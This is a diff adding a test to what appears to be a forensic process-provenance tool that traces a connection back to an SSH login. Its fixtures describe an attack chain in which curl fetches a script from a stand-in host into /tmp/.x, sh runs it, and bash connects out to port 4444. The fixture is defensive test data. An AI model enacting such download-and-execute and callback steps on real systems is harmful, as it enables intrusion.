@@ -49,6 +49,25 @@ describe("the origin of a connection", () => {
     expect(chain(of(piped, "sh"))).toContain("piped: 104 perl");
   });
 
+  test("leads through what a process started before it executed something else itself", () => {
+    const told = graphFromText(
+      `${LOGIN}; bash > bash#2; bash#2 > curl; curl -> 198.51.100.7:80; curl writes /tmp/.x; bash#2 => sh(/tmp/.x);
+       bash#2 -> 192.0.2.77:4444`,
+    );
+    const steps = chain(of(told, "192.0.2.77:4444"));
+    expect(steps.slice(0, 3)).toEqual([
+      "login: tcp 203.0.113.9:51022 -> 10.0.0.4:22",
+      "accepted: 100 sshd",
+      "spawned: 101 sshd",
+    ]);
+    expect(steps.slice(-4)).toEqual([
+      "spawned: 103 bash",
+      "spawned: 104 curl",
+      "executed: 103 sh /tmp/.x",
+      expect.stringContaining("connected: tcp"),
+    ]);
+  });
+
   test("leads through a script and a binary that were written and then run to the remote login", () => {
     const told = graphFromText(
       `${LOGIN}; bash > curl(-s http://x/i.sh); curl -> 198.51.100.7:80; curl writes /tmp/.x; bash > sh(/tmp/.x);
